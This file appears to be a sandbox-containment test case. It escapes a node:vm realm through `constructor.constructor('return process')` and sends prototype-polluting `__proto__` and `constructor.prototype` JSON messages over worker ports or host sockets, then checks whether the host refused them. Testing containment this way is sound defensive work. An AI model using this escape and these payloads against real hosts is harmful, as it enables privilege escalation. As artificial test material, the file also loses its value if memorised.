/*---
id: proto-keys
title: Prototype-polluting keys in messages to the host
category: ipc
goal: Pollute Object.prototype in the process that parses the guest's messages (the host, or the supervisor when the guest is the host).
technique: Send a well-formed console message that also carries own `__proto__` and `constructor.prototype` keys, as raw JSON on a socket or as a structured clone on parentPort.
references: https://github.com/advisories/GHSA-hrpp-h998-j3pp, https://nodejs.org/api/worker_threads.html#portpostmessagevalue-transferlist
expect: * = contained
---*/
// JSON.parse makes `__proto__` an own key; a later merge or spread may still assign it. The receiver must
// refuse the message outright. Under node:vm the Node APIs come from the realm outside.
let P = typeof process === 'object' ? process : undefined;
try {
  P ??= this.constructor.constructor('return process')();
} catch {}
const wt = P?.getBuiltinModule?.('node:worker_threads');
const net = P?.getBuiltinModule?.('node:net');
const { Buffer: B } = P?.getBuiltinModule?.('node:buffer') ?? {};
const port = wt && !wt.isMainThread ? wt.parentPort : null;
const socket = port ? null : P?._getActiveHandles?.().find((h) => h instanceof net.Socket && !h._isStdio);
const text = [
  '{"t":"console","level":"log","text":"polluting","__proto__":{"polluted":"yes","isAdmin":true}}',
  '{"t":"console","level":"log","text":"polluting","constructor":{"prototype":{"polluted":"yes"}}}',
];
let sent = 'no channel in this realm';
if (port) (text.forEach((t) => port.postMessage(JSON.parse(t))), (sent = 'posted two polluting messages'));
if (socket) {
  for (const t of text) {
    const body = B.from(t);
    const head = B.alloc(4);
    head.writeUInt32BE(body.length);
    socket.write(B.concat([head, body]));
  }
  sent = 'wrote two polluting frames';
}
const later = P?.getBuiltinModule?.('node:timers').setTimeout;
later ? new Promise((resolve) => later(() => resolve(`${sent}; polluted here: ${{}.polluted}`), 300)) : sent;
